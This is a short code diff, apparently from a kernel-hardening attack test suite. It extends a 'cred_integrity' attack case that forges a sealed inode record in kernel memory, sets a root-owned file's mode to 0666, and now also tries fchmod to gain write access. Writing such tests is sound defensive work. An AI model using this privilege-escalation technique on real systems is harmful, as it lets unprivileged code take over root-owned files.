@@ -5,7 +5,7 @@ ATTACK("cred_integrity", "record_in_registers", "cred_integrity: the seal of a f
        "The program loads its vector registers with a record that lets everybody write to root's "
        "file, sleeps, so that the kernel keeps them in sealed memory, and leads the inode there.",
        "A record is believed in sealed slabs of its own type alone; registers stand elsewhere.",
-       "It opens root's file for writing.");
+       "It opens root's file for writing, or changes its mode.");
 
 #define VECTOR_BYTES 256 /* sixteen registers */
 #define FIRST_VECTOR 160 /* in the saved area */
@@ -70,7 +70,8 @@ static bool fire(void)
 	sleep_milliseconds(100);
 	poke32(inode + member("inode.mode"), 0100666);
 	poke(inode + member("inode.seal"), forgery->seal);
-	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0;
+	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0 ||
+		 call2(__NR_fchmod, file, 0666) == 0;
 	poke(inode + member("inode.seal"), before);
 	return opened;
 }
